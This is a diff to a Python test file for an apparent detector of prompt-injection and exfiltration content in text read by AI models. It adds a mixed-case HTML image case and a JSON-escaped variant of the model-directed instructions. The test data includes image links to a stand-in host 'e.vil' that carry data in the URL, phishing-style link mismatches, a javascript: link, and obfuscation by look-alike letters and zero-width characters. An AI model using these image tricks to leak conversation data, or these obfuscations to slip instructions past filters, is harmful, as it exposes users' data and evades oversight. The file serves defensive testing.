@@ -54,6 +54,7 @@ def test_what_is_not_personal_passes(text: str) -> None:
         ("![a](https://e.vil/x.png?d=aGk)", "image-with-data"),
         (f"![a](https://e.vil/{'a' * 40}.png)", "image-with-data"),
         ("<img alt=x src='https://e.vil/?q=1'>", "image-with-data"),
+        ("<iMg alt=x src='https://e.vil/?q=1'>", "image-with-data"),
         ("[bank.example](https://e.vil/)", "link-mismatch"),
         ("[https://bank.example/login](http://e.vil)", "link-mismatch"),
         ("[x](javascript:alert(1))", "link-scheme"),
@@ -116,6 +117,8 @@ def test_orders_to_the_model(kind: str, text: str) -> None:
     assert kind in injection.find(text.replace("o", "\u043e").replace("e", "e\u200b"))
     written = json.dumps(wide, ensure_ascii=False).encode()
     assert Inspector([Injection("flag")]).inspect(written).seen
+    escaped = json.dumps(text).encode().replace(b"/", rb"\/")
+    assert Inspector([Injection("flag")]).inspect(escaped).seen
 
 
 @pytest.mark.parametrize(
